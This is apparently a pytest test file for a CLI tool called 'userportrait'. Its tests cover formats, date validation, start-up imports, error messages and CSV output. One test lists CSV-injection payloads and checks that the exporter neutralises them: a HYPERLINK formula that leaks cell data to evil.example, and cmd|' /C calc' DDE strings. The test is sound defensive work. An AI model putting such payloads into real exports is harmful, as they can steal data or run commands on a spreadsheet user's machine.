"""``userportrait portrait``: formats, bad dates, start-up, CSV cells."""

from __future__ import annotations

import json
from pathlib import Path

from click.testing import CliRunner

from tests.conftest import write_ndjson
from tests.fixtures import EVENTS, A
from userportrait.cli import cli


def test_portrait_formats_and_bad_dates(runner: CliRunner, tmp_path: Path) -> None:
    runner.invoke(cli, ["ingest", "-q", str(write_ndjson(tmp_path / "e.ndjson", EVENTS))])
    args = ["portrait", "--appid", A, "--begin", "20240610", "--end", "20240612"]
    csv_out = runner.invoke(cli, [*args, "--format", "csv"])
    assert csv_out.exit_code == 0
    assert csv_out.output.splitlines()[0] == "ref_date,audience,dimension,id,name,value"
    assert "20240610-20240612,visit_uv,city,4403,深圳,1" in csv_out.output
    table = runner.invoke(cli, [*args, "--format", "table"])
    assert table.exit_code == 0 and "HarmonyOS" in table.output
    bad = runner.invoke(
        cli, ["portrait", "--appid", A, "--begin", "2024-13-01", "--end", "20240612"]
    )
    assert bad.exit_code == 2 and "not a calendar date" in bad.output
    rev = runner.invoke(cli, ["portrait", "--appid", A, "--begin", "20240612", "--end", "20240610"])
    assert rev.exit_code == 1 and "end_date is before begin_date" in rev.output
    eng = runner.invoke(cli, [*args, "--engine", "nope"])
    assert eng.exit_code == 1 and "unknown engine 'nope'" in eng.output


def test_a_fresh_portrait_process_loads_no_heavy_module(runner: CliRunner, tmp_path: Path) -> None:
    """Start-up is most of a CLI answer: answering from the state must not import DuckDB,
    pandas (pyarrow pulls it in for ChunkedArray.to_numpy, read_table, …), pyarrow.compute,
    the server, or the SQL engine the incremental one falls back to on a stale state.
    Checked by module, not timed (bench/perf.py and bench/growth.py measure the time)."""
    import os
    import subprocess
    import sys

    src = write_ndjson(tmp_path / "e.ndjson", EVENTS)
    assert runner.invoke(cli, ["ingest", "-q", str(src)]).exit_code == 0
    for begin in ("20240610", "20240601"):  # a 3-day and a 12-day window, both lookups
        code = (
            "import sys\n"
            "from userportrait.cli import cli\n"
            f"sys.argv = ['userportrait', 'portrait', '--appid', {A!r}, '--begin', {begin!r},"
            " '--end', '20240612']\n"
            "try:\n    cli()\nexcept SystemExit:\n    pass\n"
            "heavy = {'duckdb', 'pandas', 'pyarrow.compute', 'pyarrow.dataset', 'fastapi',"
            " 'pydantic', 'userportrait.engine.sql'}\n"
            "print(sorted(heavy & set(sys.modules)), file=sys.stderr)\n"
        )
        res = subprocess.run(
            [sys.executable, "-c", code], capture_output=True, text=True, env=dict(os.environ)
        )
        assert res.returncode == 0, res.stderr
        assert res.stderr.strip().splitlines()[-1] == "[]"
        assert json.loads(res.stdout)["ref_date"] == f"{begin}-20240612"


def test_the_command_group_imports_only_click_and_its_own_modules() -> None:
    """Every command's work is imported inside the command: the group itself (all a
    ``--help`` or a mistyped command pays) loads no server, data or table library."""
    import os
    import subprocess
    import sys

    code = (
        "import sys\n"
        "import userportrait.cli\n"
        "heavy = {'fastapi', 'starlette', 'uvicorn', 'pydantic', 'httpx', 'duckdb', 'pandas',"
        " 'pyarrow', 'numpy', 'rich'}\n"
        "print(sorted(heavy & {m.split('.')[0] for m in sys.modules}))\n"
    )
    res = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, env=dict(os.environ)
    )
    assert res.returncode == 0, res.stderr
    assert res.stdout.strip() == "[]"


#: Device names a spreadsheet would run as formulas (OWASP "CSV Injection").
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]  # fmt: skip


def test_portrait_csv_cells_never_start_a_formula(runner: CliRunner, tmp_path: Path) -> None:
    import csv
    import io

    events = [{"appid": A, "openid": f"f{i}", "ts": "2024-06-11T10:00:00+08:00", "device": d}
              for i, d in enumerate(FORMULAS)]  # fmt: skip
    runner.invoke(cli, ["ingest", "-q", str(write_ndjson(tmp_path / "f.ndjson", events))])
    args = ["portrait", "--appid", A, "--begin", "20240611", "--end", "20240611"]
    out = runner.invoke(cli, [*args, "--format", "csv"])
    assert out.exit_code == 0, out.output
    rows = list(csv.DictReader(io.StringIO(out.output)))
    devices = {r["name"] for r in rows if r["dimension"] == "devices"}
    assert devices == {"'" + d for d in FORMULAS}
    assert not [r for r in rows if r["name"][:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_a_reading_command_names_what_is_missing(runner: CliRunner, tmp_path: Path) -> None:
    """A typo'd data directory or appid is an error, not an empty portrait (exit 0)."""
    args = ["--begin", "20240610", "--end", "20240612"]
    typo = tmp_path / "dta"
    res = runner.invoke(cli, ["portrait", "--appid", A, *args, "--data-dir", str(typo)])
    assert res.exit_code == 1 and f"no data directory at {typo}" in res.output
    assert not typo.exists()  # reading never creates it
    runner.invoke(cli, ["ingest", "-q", str(write_ndjson(tmp_path / "e.ndjson", EVENTS))])
    res = runner.invoke(cli, ["portrait", "--appid", "wx-not-there", *args])
    assert res.exit_code == 1, res.output
    assert "no events for wx-not-there" in res.output and f"apps with events: {A}" in res.output


def test_a_window_ending_today_warns_and_one_in_the_future_fails(
    runner: CliRunner, tmp_path: Path
) -> None:
    import datetime as dt

    from userportrait.portrait.query import today_shanghai

    runner.invoke(cli, ["ingest", "-q", str(write_ndjson(tmp_path / "e.ndjson", EVENTS))])
    today = today_shanghai()
    args = ["portrait", "--appid", A, "--begin", "20240610"]
    res = runner.invoke(cli, [*args, "--end", f"{today:%Y%m%d}"])
    assert res.exit_code == 0 and "today's numbers are incomplete" in res.output
    future = today + dt.timedelta(days=1)
    res = runner.invoke(cli, [*args, "--end", f"{future:%Y%m%d}"])
    assert res.exit_code == 1 and f"--end {future:%Y%m%d} is in the future" in res.output


def test_table_shows_the_top_rows_and_totals_and_csv_takes_a_bom(
    runner: CliRunner, tmp_path: Path
) -> None:
    runner.invoke(cli, ["ingest", "-q", str(write_ndjson(tmp_path / "e.ndjson", EVENTS))])
    args = ["portrait", "--appid", A, "--begin", "20240610", "--end", "20240612"]
    body = json.loads(runner.invoke(cli, args).output)
    cities = body["visit_uv"]["city"]
    assert len(cities) > 1
    res = runner.invoke(cli, [*args, "--format", "table", "--top", "1"], terminal_width=200)
    assert res.exit_code == 0
    assert f"… {len(cities) - 1} more" in res.output
    users = sum(r["value"] for r in body["visit_uv"]["genders"])
    totals = [line for line in res.output.splitlines() if line.strip("│ ").startswith("total")]
    assert len(totals) == 6 and all(str(users) in line for line in totals)
    plain = runner.invoke(cli, [*args, "--format", "csv"]).output
    assert runner.invoke(cli, [*args, "--format", "csv", "--bom"]).output == "\ufeff" + plain
